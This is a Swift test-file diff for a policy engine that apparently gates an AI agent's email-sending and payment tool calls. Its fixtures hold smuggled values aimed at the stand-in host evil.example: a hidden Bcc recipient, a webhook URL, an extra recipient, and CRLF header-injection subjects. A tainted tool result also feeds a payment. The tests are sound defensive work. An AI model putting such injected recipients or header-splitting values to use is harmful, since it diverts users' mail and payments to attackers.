@@ -56,6 +56,53 @@ struct FlowTests {
     #expect(try verdict(rule, arguments, confirmations: given) == expected)
   }
 
+  @Test(
+    "a call that is confirmed in part names what nobody has confirmed",
+    arguments: [
+      (#"{"to": ["ines@partner.example"], "body": "hi", "bcc": "x@evil.example"}"#, "$['bcc']"),
+      (#"{"to": ["ines@partner.example"], "body": "hi", "webhook_url": "https://evil.example/h"}"#, "$['webhook_url']"),
+      (#"{"to": ["ines@partner.example", "x@evil.example"], "body": "hi"}"#, "$['to'][1]"),
+      (#"{"to": ["ines@partner.example"], "body": "other"}"#, "$['to'][0]"),
+    ])
+  func confirmedInPart(_ arguments: String, _ expected: String) throws {
+    let rules = try policy([
+      "trust": ["internal_domains": ["pier.example"]],
+      "tools": [
+        ["id": "T", "tool": "send", "confirm": ["when": "external_domain"]],
+        ["id": "P", "tool": "pay", "taint": ["paths": ["$.to", "$.cc"], "decision": "confirm"]],
+      ],
+    ])
+    let ines: JSONValue = ["to": ["ines@partner.example"], "body": "hi"]
+    let given: JSONValue = [
+      ["tool": "send", "arguments": ines], ["tool": "pay", "arguments": ["to": "ines@partner.example"]],
+    ]
+    let verdict = rules.decide(
+      calls: [call("send", arguments)], messages: [Self.ask], setup: ["confirmations": given])
+    #expect(verdict.calls.map(\.sentence) == ["confirm T unconfirmed"])
+    #expect(verdict.path == expected)
+    let said = Message(.tool, "ines@partner.example, x@evil.example", toolName: "read")
+    let pay = rules.decide(
+      calls: [call("pay", #"{"to": "ines@partner.example", "cc": "x@evil.example"}"#)], messages: [Self.ask, said],
+      setup: ["confirmations": given])
+    #expect(pay.calls.map(\.sentence) == ["confirm P tainted"] && pay.path == "$['cc']")
+  }
+
+  @Test(
+    "a line that a subject is broken into is a field of the header",
+    arguments: [
+      (#"Invoice\r\nBcc: x@evil.example"#, "confirm T unconfirmed"),
+      (#"Invoice\nX: y\n to: a, x@evil.example"#, "allow T"),
+      (#"Invoice\nX: y\nTo: a, x@evil.example"#, "confirm T unconfirmed"),
+      (#"Invoice%0D%0ABcc:x@evil.example"#, "confirm T unconfirmed"),
+      (#"Invoice\nBcc: jo@pier.example"#, "allow T"), (#"Invoice for x@evil.example and others"#, "allow T"),
+    ])
+  func brokenSubject(_ subject: String, _ expected: String) throws {
+    let rule: JSONObject = ["confirm": ["when": "external_domain"]]
+    #expect(try verdict(rule, #"{"to": "jo@pier.example", "subject": "\#(subject)"}"#) == expected)
+    let body = #"{"to": "jo@pier.example", "body": "Hello,\n\nBcc: x@evil.example"}"#
+    #expect(try verdict(rule, body) == "allow T")
+  }
+
   @Test("so is a value of taint, and a confirmed amount may be paid though a resolver took it for an address")
   func taintedCause() throws {
     let rule: JSONObject = [
